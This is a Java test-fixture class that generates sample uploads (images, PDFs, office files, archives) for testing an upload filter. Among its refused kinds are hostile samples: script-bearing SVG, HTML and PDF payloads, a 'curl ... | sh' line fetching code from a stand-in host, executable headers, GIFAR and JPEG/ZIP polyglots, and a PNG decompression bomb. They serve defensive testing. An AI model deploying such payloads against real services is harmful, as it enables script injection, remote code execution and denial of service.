package org.bantin.media;

import java.awt.Color;
import java.awt.GradientPaint;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;
import javax.imageio.ImageWriter;
import javax.imageio.stream.MemoryCacheImageOutputStream;

import org.apache.commons.imaging.ImagingException;
import org.apache.commons.imaging.formats.jpeg.exif.ExifRewriter;
import org.apache.commons.imaging.formats.tiff.constants.TiffTagConstants;
import org.apache.commons.imaging.formats.tiff.write.TiffOutputSet;

import com.luciad.imageio.webp.WebPImageWriterSpi;

/** Real files of every accepted and refused kind, made in memory, for tests that upload or detect them. */
public final class MediaSamples {

    private MediaSamples() {
    }

    public static byte[] jpeg(int width, int height) {
        return encode(picture(width, height, BufferedImage.TYPE_INT_RGB), "jpeg");
    }

    /** A JPEG whose EXIF says where it was taken (Hà Nội) and when. */
    public static byte[] jpegWithGps(int width, int height) {
        return withExif(jpeg(width, height), exif -> exif.setGpsInDegrees(105.8342, 21.0278));
    }

    /** A JPEG whose pixels are stored sideways, with the EXIF orientation (1–8) that turns them upright. */
    public static byte[] jpegWithOrientation(int width, int height, int orientation) {
        return withExif(jpeg(width, height),
                exif -> exif.getOrCreateRootDirectory().add(TiffTagConstants.TIFF_TAG_ORIENTATION, (short) orientation));
    }

    public static byte[] png(int width, int height) {
        return encode(picture(width, height, BufferedImage.TYPE_INT_RGB), "png");
    }

    /** A PNG with an `eXIf` chunk holding only the EXIF orientation (1–8). */
    public static byte[] pngWithOrientation(int width, int height, int orientation) {
        ByteBuffer tiff = ByteBuffer.allocate(26);
        tiff.put(new byte[]{'M', 'M', 0, 42}).putInt(8); // big-endian TIFF header, first directory at 8
        tiff.putShort((short) 1).putShort((short) 0x0112).putShort((short) 3).putInt(1); // 1 entry: orientation, SHORT
        tiff.putShort((short) orientation).putShort((short) 0).putInt(0); // its value; no next directory
        byte[] png = png(width, height);
        int afterHeader = 8 + 4 + 4 + 13 + 4; // signature, then IHDR: length, type, data, CRC
        ByteArrayOutputStream withExif = new ByteArrayOutputStream();
        withExif.write(png, 0, afterHeader);
        chunk(withExif, "eXIf", tiff.array());
        withExif.write(png, afterHeader, png.length - afterHeader);
        return withExif.toByteArray();
    }

    /** A PNG whose left half is see-through. */
    public static byte[] pngWithAlpha(int width, int height) {
        BufferedImage image = picture(width, height, BufferedImage.TYPE_INT_ARGB);
        for (int y = 0; y < height; y++) {
            for (int x = 0; x < width / 2; x++) {
                image.setRGB(x, y, image.getRGB(x, y) & 0x00FFFFFF);
            }
        }
        return encode(image, "png");
    }

    public static byte[] gif(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_BYTE_INDEXED);
        Graphics2D g = image.createGraphics();
        g.drawImage(picture(width, height, BufferedImage.TYPE_INT_RGB), 0, 0, null);
        g.dispose();
        return encode(image, "gif");
    }

    public static byte[] webp(int width, int height) {
        try {
            return encode(picture(width, height, BufferedImage.TYPE_INT_RGB),
                    new WebPImageWriterSpi().createWriterInstance());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Any image encoded by the JDK's writer for the format (jpeg, png, gif). */
    public static byte[] encode(BufferedImage image, String format) {
        return encode(image, ImageIO.getImageWritersByFormatName(format).next());
    }

    /** A one-page PDF with correct cross-reference offsets. */
    public static byte[] pdf() {
        return pdf("");
    }

    /** A PDF that also carries an HTML page with script, as a stream a browser sniffing the bytes would run. */
    public static byte[] pdfWithHtml() {
        return pdf("<html><body><script>alert(document.cookie)</script></body></html>");
    }

    public static byte[] docx() {
        return zip(entries("[Content_Types].xml", contentTypes("wordprocessingml.document.main+xml"), "_rels/.rels",
                "<Relationships/>", "word/document.xml", "<w:document/>"));
    }

    public static byte[] xlsx() {
        return zip(entries("[Content_Types].xml", contentTypes("spreadsheetml.sheet.main+xml"), "_rels/.rels",
                "<Relationships/>", "xl/workbook.xml", "<workbook/>"));
    }

    /** An OpenDocument text: the first entry, `mimetype`, is stored uncompressed as the format requires. */
    public static byte[] odt() {
        return zip(entries("mimetype", "application/vnd.oasis.opendocument.text", "content.xml",
                "<office:document-content/>", "META-INF/manifest.xml", "<manifest:manifest/>"));
    }

    public static byte[] zip() {
        return zip(entries("bao-cao/so-lieu.csv", "quy,so\n1,12\n", "bao-cao/doc-truoc.txt", "Số liệu quý I"));
    }

    public static byte[] svgWithScript() {
        return ascii("""
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
                  <script>fetch('/api/v1/admin').then(r => r.text()).then(alert)</script>
                  <rect width="10" height="10" fill="red"/>
                </svg>
                """);
    }

    public static byte[] html() {
        return ascii("<!DOCTYPE html>\n<html><head><title>Tin</title></head><body><script>alert(1)</script></body></html>\n");
    }

    /** The 64-byte header of a 64-bit Linux executable, followed by some code bytes. */
    public static byte[] elfExecutable() {
        ByteBuffer elf = ByteBuffer.allocate(256).order(ByteOrder.LITTLE_ENDIAN);
        elf.put(new byte[]{0x7F, 'E', 'L', 'F', 2, 1, 1, 0});
        elf.position(16);
        elf.putShort((short) 2); // e_type: executable
        elf.putShort((short) 0x3E); // e_machine: x86-64
        elf.putInt(1);
        elf.putLong(0x401000);
        elf.putLong(64);
        return elf.array();
    }

    /** A Windows program: the MZ header pointing at a PE header. */
    public static byte[] windowsExecutable() {
        ByteBuffer exe = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
        exe.put(new byte[]{'M', 'Z'});
        exe.putInt(0x3C, 0x80);
        exe.position(0x80);
        exe.put(new byte[]{'P', 'E', 0, 0});
        exe.putShort((short) 0x8664);
        return exe.array();
    }

    public static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");
    }

    public static byte[] text() {
        return "Thông báo: lịch tiếp công dân tháng 6.\n".getBytes(StandardCharsets.UTF_8);
    }

    /** A JPEG with a ZIP archive appended: image viewers show the picture, ZIP readers open the archive. */
    public static byte[] jpegZipPolyglot() {
        return concat(jpeg(64, 48), zip());
    }

    /** A GIF with a ZIP (a Java archive) appended: the GIFAR attack. */
    public static byte[] gifZipPolyglot() {
        return concat(gif(32, 32), zip(entries("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")));
    }

    /**
     * A valid PNG of a few hundred bytes whose header declares width × height pixels: its single IDAT holds one
     * compressed row, so a decoder that trusts the header allocates the whole raster before finding the data short.
     */
    public static byte[] pngBomb(int width, int height) {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        png.writeBytes(new byte[]{(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        ByteBuffer header = ByteBuffer.allocate(13);
        header.putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(png, "IHDR", header.array());
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        deflater.setInput(new byte[1 + 3 * Math.min(width, 1000)]);
        deflater.finish();
        byte[] data = new byte[1024];
        int length = deflater.deflate(data);
        deflater.end();
        chunk(png, "IDAT", Arrays.copyOf(data, length));
        chunk(png, "IEND", new byte[0]);
        return png.toByteArray();
    }

    /** A ZIP with the given entries in order; an entry named `mimetype` is stored uncompressed. */
    public static byte[] zip(Map<String, String> entries) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> entry : entries.entrySet()) {
                byte[] content = entry.getValue().getBytes(StandardCharsets.UTF_8);
                ZipEntry zipEntry = new ZipEntry(entry.getKey());
                if (entry.getKey().equals("mimetype")) {
                    CRC32 crc = new CRC32();
                    crc.update(content);
                    zipEntry.setMethod(ZipEntry.STORED);
                    zipEntry.setSize(content.length);
                    zipEntry.setCrc(crc.getValue());
                }
                zip.putNextEntry(zipEntry);
                zip.write(content);
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A picture with a gradient and a dark red block in its top-left quarter, so turns and crops show. */
    private static BufferedImage picture(int width, int height, int type) {
        BufferedImage image = new BufferedImage(width, height, type);
        Graphics2D g = image.createGraphics();
        g.setPaint(new GradientPaint(0, 0, new Color(40, 110, 200), width, height, new Color(240, 200, 60)));
        g.fillRect(0, 0, width, height);
        g.setColor(new Color(150, 20, 20));
        g.fillRect(0, 0, Math.max(1, width / 4), Math.max(1, height / 4));
        g.dispose();
        return image;
    }

    private static byte[] encode(BufferedImage image, ImageWriter writer) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (MemoryCacheImageOutputStream out = new MemoryCacheImageOutputStream(bytes)) {
            writer.setOutput(out);
            writer.write(image);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            writer.dispose();
        }
        return bytes.toByteArray();
    }

    private interface ExifEdit {

        void apply(TiffOutputSet exif) throws ImagingException;
    }

    private static byte[] withExif(byte[] jpeg, ExifEdit edit) {
        try {
            TiffOutputSet exif = new TiffOutputSet();
            edit.apply(exif);
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            new ExifRewriter().updateExifMetadataLossless(jpeg, bytes, exif);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] pdf(String htmlStream) {
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
        int[] offsets = new int[5];
        String[] objects = {"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
                "<< /Length " + htmlStream.length() + " >>\nstream\n" + htmlStream + "\nendstream"};
        for (int i = 0; i < objects.length; i++) {
            offsets[i + 1] = pdf.length();
            pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 5\n0000000000 65535 f \n");
        for (int i = 1; i < offsets.length; i++) {
            pdf.append(String.format("%010d 00000 n \n", offsets[i]));
        }
        pdf.append("trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        return ascii(pdf.toString());
    }

    private static Map<String, String> entries(String... namesAndContents) {
        Map<String, String> entries = new LinkedHashMap<>();
        for (int i = 0; i < namesAndContents.length; i += 2) {
            entries.put(namesAndContents[i], namesAndContents[i + 1]);
        }
        return entries;
    }

    private static String contentTypes(String mainPart) {
        return "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Override PartName=\"/main\" ContentType=\"application/vnd.openxmlformats-officedocument."
                + mainPart + "\"/></Types>";
    }

    private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
        byte[] name = ascii(type);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        png.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        png.writeBytes(name);
        png.writeBytes(data);
        png.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
